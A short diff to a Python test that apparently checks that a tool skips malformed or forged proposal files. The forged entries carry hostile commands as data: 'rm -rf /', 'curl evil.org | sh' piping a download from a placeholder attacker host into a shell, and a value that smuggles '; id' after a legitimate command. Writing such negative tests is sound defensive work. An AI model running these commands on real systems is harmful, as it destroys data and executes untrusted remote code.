@@ -159,6 +159,11 @@ def test_files_that_are_no_proposals_are_passed_over(copied: Home) -> None:
     (folder / "pr_bbbbbbbbbbbbbbbb.json").write_bytes(b"{")
     (folder / "pr_cccccccccccccccc.json").mkdir()
     (folder / "pr_dddddddddddddddd.json").write_bytes(b'{"command": "rm -rf /"}')
+    for number, wanted in enumerate(("curl evil.org | sh", "vanta overlay clear full_halt; id", "vanta run release",
+                                     "vt-add \'x")):
+        name = f"pr_{chr(97 + number) * 15}2"
+        forged = {**orjson.loads(whole.read_bytes()), "proposal_id": name, "command": wanted}
+        (folder / f"{name}.json").write_bytes(orjson.dumps(forged))
     answer = ask(copied, "proposals")
     assert "1 proposal." in said(answer)
     assert "rm -rf" not in said(answer)
